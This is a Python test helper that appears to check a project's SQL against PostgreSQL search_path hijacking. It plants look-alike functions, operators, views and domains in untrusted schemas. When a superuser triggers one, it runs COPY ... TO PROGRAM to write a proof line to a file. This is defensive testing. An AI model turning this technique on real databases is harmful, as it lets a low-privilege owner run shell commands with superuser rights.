"""What an owner without rights can put in the way of a superuser: PostgreSQL's own names in schemas that come first.

Each trap that a superuser springs leaves a line in a file, by COPY ... TO PROGRAM: that works in a transaction that
only reads, outlives a rollback, and is what a real attacker would do next.
"""

from __future__ import annotations

import re
from pathlib import Path

import psycopg
from psycopg import sql

import tabsync

SCHEMAS = ("hostile", "public")
ASKING = (
    "postgres",
    "copies",
    "audit",
    "users",
    "backups",
    "monitoring",
    "init",
    "sessions",
    "maintenance",
    "profiles",
)
"""The folders whose SQL reaches a database of somebody else."""

_MAKE = """
do $make$
declare
  f record; s text; body text; shapes text[]; shape text;
begin
  foreach s in array array['hostile', 'public'] loop
    execute pg_catalog.format($f$
      create function %1$I.spring(what text) returns boolean language plpgsql set search_path = pg_catalog as $b$
      begin
        if current_setting('is_superuser') = 'on' then
          execute format('copy (select %%L) to program %%L', what, 'cat >> PROOF');
        end if;
        return true;
      end $b$ $f$, s);
    -- Functions: with the arguments that PostgreSQL's own have, and with closer ones where those would be cast.
    for f in
      select p.proname, pg_catalog.pg_get_function_identity_arguments(p.oid) as arguments,
             pg_catalog.pg_get_function_result(p.oid) as result, p.prokind, p.pronargs,
             array(select pg_catalog.format_type(t, null) from pg_catalog.unnest(p.proargtypes) t) as types
        from pg_catalog.pg_proc p
       where p.pronamespace = 'pg_catalog'::pg_catalog.regnamespace and p.prokind in ('f', 'a')
         and p.proname = any (FUNCTIONS)
    loop
      shapes := array[pg_catalog.array_to_string(f.types, ', ')];
      if f.pronargs between 1 and 4 then
        foreach shape in array array['name', 'text', 'unknown', 'anyelement'] loop
          shapes := shapes || pg_catalog.rtrim(pg_catalog.repeat(shape || ', ', f.pronargs), ', ');
        end loop;
      end if;
      foreach shape in array shapes loop
        begin
          if f.prokind = 'a' then
            execute pg_catalog.format('create function %I.grab(a boolean, %s) returns boolean language sql as %L',
              s, shape, pg_catalog.format('select %I.spring(%L)', s, 'aggregate ' || f.proname));
            execute pg_catalog.format('create aggregate %I.%I(%s) (sfunc = %I.grab, stype = boolean, initcond = %L)',
              s, f.proname, shape, s, 'false');
          else
            body := pg_catalog.format('begin perform %I.spring(%L); return null; end', s, 'function ' || f.proname);
            execute pg_catalog.format('create function %I.%I(%s) returns %s language plpgsql as %L',
              s, f.proname, shape, pg_catalog.regexp_replace(f.result, '^TABLE.*', 'setof record'), body);
          end if;
        exception when others then null;  -- not every signature can be made by an owner
        end;
      end loop;
    end loop;
    -- Operators, each with the types of PostgreSQL's own.
    for f in
      select o.oprname, pg_catalog.format_type(o.oprleft, null) as l, pg_catalog.format_type(o.oprright, null) as r,
             pg_catalog.format_type(o.oprresult, null) as result, o.oid
        from pg_catalog.pg_operator o
       where o.oprnamespace = 'pg_catalog'::pg_catalog.regnamespace and o.oprkind = 'b' and o.oprname = any (OPERATORS)
    loop
      begin
        body := pg_catalog.format('begin perform %I.spring(%L); return null; end', s, 'operator ' || f.oprname);
        execute pg_catalog.format('create function %I.op_%s(%s, %s) returns %s language plpgsql as %L',
          s, f.oid, f.l, f.r, f.result, body);
        execute pg_catalog.format('create operator %I.%s (leftarg = %s, rightarg = %s, function = %I.op_%s)',
          s, f.oprname, f.l, f.r, s, f.oid);
      exception when others then null;
      end;
    end loop;
    -- Relations: a view of that name over the real one.
    for f in
      select c.relname from pg_catalog.pg_class c
       where c.relnamespace = 'pg_catalog'::pg_catalog.regnamespace and c.relkind in ('r', 'v')
         and c.relname = any (RELATIONS)
    loop
      begin
        execute pg_catalog.format('create view %I.%I as select * from pg_catalog.%I where %I.spring(%L)',
          s, f.relname, f.relname, s, 'relation ' || f.relname);
      exception when others then null;
      end;
    end loop;
    -- Types: a domain of that name, whose check is run when a value is cast to it.
    foreach shape in array TYPES loop
      begin
        execute pg_catalog.format('create domain %I.%I as pg_catalog.%I check (%I.spring(%L))',
          s, shape, shape, s, 'type ' || shape);
      exception when others then null;
      end;
    end loop;
  end loop;
end $make$
"""


def names_used() -> tuple[list[str], list[str]]:
    """The words and the operators of all our SQL: what could be meant by one of them is planted."""
    root = Path(tabsync.__file__).parent
    found = [path for folder in ASKING for path in sorted((root / folder).rglob("*")) if path.suffix in (".sql", ".py")]
    text = "\n".join(path.read_text(encoding="utf-8") for path in found)
    words = sorted(set(re.findall(r"[a-z_][a-z0-9_]+", text)))
    return words, sorted(
        set(re.findall(r"(?<![\w'\"])[-+*/<>=~!@#%^&|]{1,4}(?![\w'\"])", text)) | {"=", "<>", "||", "<", ">", "~", "~~"}
    )


def plant(conninfo: str, proof: Path) -> int:
    """Plant every trap as the user of the connection string; gives how many there are. proof: where they write."""
    words, operators = names_used()

    def array(values: list[str]) -> sql.Composable:
        return sql.SQL("array[{}]::pg_catalog.text[]").format(sql.SQL(", ").join(map(sql.Literal, values)))

    types = [
        "text",
        "name",
        "int4",
        "int8",
        "oid",
        "bool",
        "jsonb",
        "json",
        "timestamptz",
        "numeric",
        "regclass",
        "pg_lsn",
    ]
    body = _MAKE.replace("PROOF", str(proof))
    for place, values in {"FUNCTIONS": words, "OPERATORS": operators, "RELATIONS": words, "TYPES": types}.items():
        body = body.replace(place, array(values).as_string(None))
    with psycopg.connect(conninfo, autocommit=True) as connection:
        connection.execute("create schema hostile")
        connection.execute("set search_path = pg_catalog")
        connection.execute(body.encode())
        row = connection.execute(
            "select count(*) from (select from pg_catalog.pg_proc where pronamespace::regnamespace::text = any(%(s)s)"
            " union all select from pg_catalog.pg_operator where oprnamespace::regnamespace::text = any(%(s)s)"
            " union all select from pg_catalog.pg_class where relnamespace::regnamespace::text = any(%(s)s)) as t",
            {"s": list(SCHEMAS)},
        ).fetchone()
    return int(row[0]) if row else 0
